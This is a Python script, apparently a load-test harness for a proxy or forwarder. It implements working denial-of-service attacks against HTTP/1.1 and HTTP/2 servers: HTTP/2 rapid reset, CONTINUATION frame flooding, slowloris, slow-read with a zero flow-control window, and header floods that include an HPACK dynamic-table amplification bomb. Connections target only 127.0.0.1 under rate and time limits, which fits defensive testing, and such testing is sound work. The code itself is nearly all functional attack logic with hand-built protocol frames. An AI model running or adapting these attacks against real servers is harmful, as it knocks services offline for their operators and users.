"""Clients that mean harm, against listeners of 127.0.0.1. Each is held to a rate and to a time, and prints as JSON what it did.

  attacker.py ATTACK HTTP_PORT HTTPS_PORT SECONDS
"""

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter

TICK = 0.02
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attack:
    """What all connections of an attack share: where to, until when, and what was done."""

    def __init__(self, http, https, seconds):
        self.http = http
        self.https = https
        self.end = time.monotonic() + seconds
        self.counts = Counter()
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname = False
        self.tls.verify_mode = ssl.CERT_NONE
        self.tls.set_alpn_protocols(["h2"])

    def running(self):
        return time.monotonic() < self.end

    def count(self, what, number=1):
        self.counts[what] += number

    def connect(self, receive_buffer=None):
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(5)
        connection.connect(("127.0.0.1", self.http))
        self.count("connections")
        return connection

    def connect2(self, settings=b"", receive_buffer=None):
        """HTTP/2, up to the settings."""
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(5)
        connection.connect(("127.0.0.1", self.https))
        connection = self.tls.wrap_socket(connection)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.count("connections")
        return connection

    def on_connections(self, number, per_second, work):
        """Keeps a number of connections, made anew when they end, each at most so many times in a second."""

        def repeat():
            while self.running():
                start = time.monotonic()
                try:
                    work()
                except (OSError, EOFError):
                    self.count("ended by the forwarder")
                time.sleep(max(0, min(start + 1 / per_second, self.end) - time.monotonic()))

        self.side_by_side(*[repeat] * number)

    def each_second(self, number, connect, step):
        """Keeps a number of connections, made anew when they end; every second a step on each."""
        connections = {}
        while self.running():
            start = time.monotonic()
            try:
                while len(connections) < number and self.running():
                    connections[connect()] = 0
            except (OSError, EOFError):
                self.count("connections not made")
            for connection, turn in list(connections.items()):
                try:
                    step(connection, turn)
                    connections[connection] += 1
                except (OSError, EOFError):
                    self.count("ended by the forwarder")
                    connection.close()
                    del connections[connection]
            time.sleep(max(0, start + 1 - time.monotonic()))

    @staticmethod
    def side_by_side(*works):
        threads = [threading.Thread(target=work, daemon=True) for work in works]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def get(path):
    """The fields of a request: GET, path, https and host from the static table, values as they are."""
    def text(value):
        return bytes([len(value)]) + value.encode()
    return b"\x82\x87" + b"\x04" + text(path) + b"\x01" + text("127.0.0.1")


def drain(connection):
    """Throws away what has come; fails at the end of the connection."""
    connection.settimeout(0)
    try:
        while True:
            if not connection.recv(65536):
                raise EOFError
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(5)


def rapid_reset(attack):
    """10 connections with 500 requests in a second each, every one reset at once."""
    fields = get("/bulk/reset")

    def work():
        with attack.connect2() as connection:
            stream = 1
            while attack.running():
                batch = b""
                for _ in range(10):
                    batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, fields)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    stream += 2
                connection.sendall(batch)
                attack.count("requests reset", 10)
                drain(connection)
                time.sleep(TICK)

    attack.on_connections(10, 5, work)


def continuation_flood(attack):
    """10 connections whose fields never end: 5,000 empty frames in a second each, 5 connections in a second each."""
    batch = frame(CONTINUATION, 0, 1) * 100

    def work():
        with attack.connect2() as connection:
            connection.sendall(frame(HEADERS, END_STREAM, 1, get("/")))
            while attack.running():
                connection.sendall(batch)
                attack.count("frames", 100)
                drain(connection)
                time.sleep(TICK)

    attack.on_connections(10, 5, work)


def slowloris(attack):
    """400 connections of HTTP/1.1 and 100 of HTTP/2 whose request goes on by some bytes each second, and never ends."""
    fields = get("/" + "x" * 100)
    slow = frame(HEADERS, END_HEADERS | END_STREAM, 1, fields)

    def open1():
        connection = attack.connect()
        connection.sendall(b"GET / HTTP/1.1\r\nHost: shop\r\n")
        return connection

    def open2():
        connection = attack.connect2()
        connection.sendall(slow[:12])
        return connection

    def more1(connection, turn):
        drain(connection)
        connection.sendall(b"X-Slow-%d: yes\r\n" % turn)

    def more2(connection, turn):
        drain(connection)
        connection.sendall(slow[12 + turn:13 + turn])

    attack.side_by_side(
        lambda: attack.each_second(400, open1, more1), lambda: attack.each_second(100, open2, more2))


def slow_read(attack):
    """100 connections of HTTP/1.1 and 10 of HTTP/2 with 100 requests each that ask for large answers and take next to nothing."""
    no_window = struct.pack(">HI", 4, 0)
    requests = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, get("/bulk")) for stream in range(1, 200, 2))

    def open1():
        connection = attack.connect(4096)
        connection.sendall(b"GET /bulk HTTP/1.1\r\nHost: shop\r\n\r\n")
        return connection

    def open2():
        connection = attack.connect2(no_window, 4096)
        connection.sendall(requests)
        return connection

    def take_a_byte(connection, _):
        connection.settimeout(0)
        try:
            if not connection.recv(1):
                raise EOFError
        except (BlockingIOError, ssl.SSLWantReadError):
            pass

    attack.side_by_side(
        lambda: attack.each_second(100, open1, take_a_byte), lambda: attack.each_second(10, open2, take_a_byte))


def header_flood(attack):
    """200 requests in a second: 64 large fields, 4,000 small ones, or over HTTP/2 one field of 4 KB 11,000 times."""
    large = b"".join(b"X-%d: %s\r\n" % (i, b"y" * 1000) for i in range(64))
    many = b"".join(b"X-%d: yes\r\n" % i for i in range(4000))
    # A literal that goes into the dynamic table (as its first entry, 62), then references to it of one byte each.
    bomb = get("/") + b"\x40\x01x\x7f\xa1\x1e" + b"z" * 4000 + b"\xbe" * 11000

    def work1(fields):
        with attack.connect() as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: shop\r\n" + fields + b"\r\n")
            attack.count("requests")
            while connection.recv(65536):
                pass

    def work2():
        with attack.connect2() as connection:
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb))
            attack.count("requests")
            until = min(attack.end, time.monotonic() + 0.1)
            while time.monotonic() < until and select.select([connection], [], [], 0.02):
                drain(connection)

    kinds = [lambda: work1(large), lambda: work1(many), work2, work2]
    turn = iter(range(1 << 30))
    attack.on_connections(20, 10, lambda: kinds[next(turn) % len(kinds)]())


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "slowloris": slowloris,
    "slow-read": slow_read,
    "header-flood": header_flood,
}


def main():
    name, http, https, seconds = sys.argv[1:]
    attack = Attack(int(http), int(https), float(seconds))
    ATTACKS[name](attack)
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    main()
